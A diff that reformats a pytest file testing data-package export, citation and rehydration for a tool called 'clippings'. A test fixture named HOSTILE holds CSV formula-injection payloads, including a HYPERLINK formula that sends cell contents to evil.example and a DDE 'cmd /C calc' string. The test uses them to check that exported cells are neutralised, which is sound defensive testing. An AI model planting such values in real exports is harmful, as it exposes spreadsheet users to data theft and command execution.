@@ -34,8 +34,9 @@ def release(*args: str) -> None:
 
 
 def validate(folder: Path) -> subprocess.CompletedProcess:
-    return subprocess.run([str(FRICTIONLESS), "validate", "--json", str(folder / "datapackage.json")],
-                          capture_output=True, text=True, timeout=600)
+    return subprocess.run(
+        [str(FRICTIONLESS), "validate", "--json", str(folder / "datapackage.json")], capture_output=True, text=True, timeout=600
+    )
 
 
 @pytest.fixture(scope="module")
@@ -75,8 +76,14 @@ def test_package_has_a_csv_per_table_with_types_and_descriptions(demo_archive, p
     described = load_metadata(Path("archive"))["databases"]["archive"]["tables"]
     public = {r["name"]: r for r in descriptor(public_package)["resources"]}
     assert {"articles", "captures", "copies", "mentions", "keyword_matches", "outlets", "people", "releases"} <= set(public)
-    assert not {"capture_bodies", "compression_dictionaries", "takedowns", "text_sketches", "outlet_lines",
-                "release_snippets"} & set(public)
+    assert not {
+        "capture_bodies",
+        "compression_dictionaries",
+        "takedowns",
+        "text_sketches",
+        "outlet_lines",
+        "release_snippets",
+    } & set(public)
     full = {r["name"]: r for r in descriptor(full_package)["resources"]}
     assert {"capture_bodies", "compression_dictionaries", "text_sketches"} <= set(full)
     for resource in [*public.values(), *full.values()]:
@@ -86,7 +93,9 @@ def test_package_has_a_csv_per_table_with_types_and_descriptions(demo_archive, p
     fields = {f["name"]: f["type"] for f in public["articles"]["schema"]["fields"]}
     assert fields["id"] == "integer" and fields["title"] == "string" and fields["authors"] == "array"
     assert public["articles"]["schema"]["primaryKey"] == ["id"]
-    assert {"fields": ["capture_id"], "reference": {"resource": "captures", "fields": ["id"]}} in public["articles"]["schema"]["foreignKeys"]
+    assert {"fields": ["capture_id"], "reference": {"resource": "captures", "fields": ["id"]}} in public["articles"]["schema"][
+        "foreignKeys"
+    ]
     # A public package holds no raw pages, so nothing may point at them.
     assert all(k["reference"]["resource"] != "capture_bodies" for k in public["captures"]["schema"].get("foreignKeys", []))
 
@@ -105,7 +114,7 @@ def test_package_readme_and_citation(demo_archive, public_package, full_package)
     assert "## Datasheet" in readme and "Known gaps" in readme and "clippings rehydrate" in readme
     assert all(f"data/{name}.csv" in readme for name in ("articles", "captures"))
     citation = yaml.safe_load((public_package / "CITATION.cff").read_text())
-    (title, start, end), = rows(demo_archive, "SELECT title, window_start, window_end FROM topics")
+    ((title, start, end),) = rows(demo_archive, "SELECT title, window_start, window_end FROM topics")
     assert citation["cff-version"] == "1.2.0" and citation["type"] == "dataset"
     assert title in citation["title"] and start in citation["title"] and end in citation["title"]
     assert citation["references"][0]["title"] == "clippings" and citation["references"][0]["version"] == __version__
@@ -114,20 +123,29 @@ def test_package_readme_and_citation(demo_archive, public_package, full_package)
 
 
 def test_release_and_package_together(demo_archive, tmp_path):
-    release("--public", "--db", str(demo_archive), "--out", str(tmp_path / "public.db"), "--datapackage", str(tmp_path / "package"))
+    release(
+        "--public", "--db", str(demo_archive), "--out", str(tmp_path / "public.db"), "--datapackage", str(tmp_path / "package")
+    )
     assert sorted(p.name for p in tmp_path.iterdir()) == ["package", "public.db"]
     assert validate(tmp_path / "package").returncode == 0
 
 
 def test_package_refuses_an_existing_folder(demo_archive, tmp_path):
     (tmp_path / "package").mkdir()
-    result = CliRunner().invoke(main, ["release", "--public", "--db", str(demo_archive), "--datapackage", str(tmp_path / "package")])
+    result = CliRunner().invoke(
+        main, ["release", "--public", "--db", str(demo_archive), "--datapackage", str(tmp_path / "package")]
+    )
     assert result.exit_code == 1 and "exists already" in result.output
     assert list(tmp_path.iterdir()) == [tmp_path / "package"] and list((tmp_path / "package").iterdir()) == []
 
 
-HOSTILE = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1, \"Click\")", "sitename": "@SUM(1+1)*cmd|' /C calc'!A0",
-           "published_at": "-2+3", "language": "\tx", "relevance": "'=already"}
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil.example/?"&A1, "Click")',
+    "sitename": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "published_at": "-2+3",
+    "language": "\tx",
+    "relevance": "'=already",
+}
 
 
 def test_package_neutralises_formula_cells(demo_archive, tmp_path):
@@ -151,8 +169,17 @@ def test_rehydrate_restores_a_data_package(demo_archive, demo_site_port, tmp_pat
     folder = tmp_path / "package"
     release("--public", "--db", str(demo_archive), "--datapackage", str(folder))
     with DemoSite(base_port=demo_site_port):
-        result = run_clippings("rehydrate", str(folder), "--no-wayback", "-s", "ALLOWED_PRIVATE_NETWORKS=127.0.0.1/32",
-                               "-s", "DOWNLOAD_DELAY=0", "-s", "AUTOTHROTTLE_ENABLED=False")
+        result = run_clippings(
+            "rehydrate",
+            str(folder),
+            "--no-wayback",
+            "-s",
+            "ALLOWED_PRIVATE_NETWORKS=127.0.0.1/32",
+            "-s",
+            "DOWNLOAD_DELAY=0",
+            "-s",
+            "AUTOTHROTTLE_ENABLED=False",
+        )
     assert result.returncode == 0, result.stdout + result.stderr
     total = rows(demo_archive, "SELECT count(*) FROM articles")[0][0]
     assert f"{folder}: {total} restored, 0 changed, 0 failed" in result.stdout
